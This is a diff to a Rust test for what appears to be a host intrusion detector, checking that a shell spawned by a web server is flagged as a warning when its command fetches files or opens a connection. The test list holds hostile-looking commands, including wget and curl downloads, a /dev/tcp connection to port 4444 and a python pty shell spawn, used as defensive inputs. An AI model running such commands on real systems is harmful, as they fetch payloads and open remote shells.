@@ -217,14 +217,26 @@ fn a_web_service_that_runs_a_shell_is_info_and_with_a_downloader_a_warning() {
         argv(exec, &["sh", "-c", "sendmail -t"]);
     });
     assert_eq!(said(&mut bench), [(WebServerSpawnedShell, Info)]);
-    let mut bench = Bench::new();
-    let web = self::web(&mut bench);
-    child_of(&mut bench, web, "/bin/sh", |exec| {
-        exec.args = b"sh\0-c\0cd /tmp; wget http://x/y && chmod +x y\0"
-            .as_slice()
-            .into();
-    });
-    assert_eq!(said(&mut bench), [(WebServerSpawnedShell, Warning)]);
+    for command in [
+        "cd /tmp; wget http://x/y",
+        "curl http://x/y",
+        "echo eA== | base64 -d",
+        "chmod +x y",
+        "exec 3<>/dev/tcp/192.0.2.1/4444",
+        "nohup ./y",
+        "python3 -c 'import pty; pty.spawn(1)'",
+    ] {
+        let mut bench = Bench::new();
+        let web = self::web(&mut bench);
+        child_of(&mut bench, web, "/bin/sh", |exec| {
+            argv(exec, &["sh", "-c", command]);
+        });
+        assert_eq!(
+            said(&mut bench),
+            [(WebServerSpawnedShell, Warning)],
+            "{command}"
+        );
+    }
 }
 
 #[test]
